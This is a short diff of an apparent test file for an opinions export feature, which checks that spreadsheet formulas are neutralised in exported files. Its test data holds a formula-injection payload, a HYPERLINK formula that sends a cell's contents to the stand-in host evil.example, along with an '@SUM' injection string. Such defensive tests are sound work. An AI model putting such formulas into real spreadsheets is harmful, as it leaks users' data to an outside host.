@@ -113,7 +113,7 @@ describe.each(testDatabases)("opinions report and export on $name", (database) =
     expect(sizes(copy)).toEqual(sizes(original));
   });
 
-  it("neutralises spreadsheet formulas in every exported file, keeps -1 votes as numbers, and reads them back", async () => {
+  it("neutralises formulas in every exported file, keeps -1 votes as numbers, and reads them back", async () => {
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")';
     const { conversation } = await makeConversation(t, {
       topic: "@SUM(1+1) onderwerp",
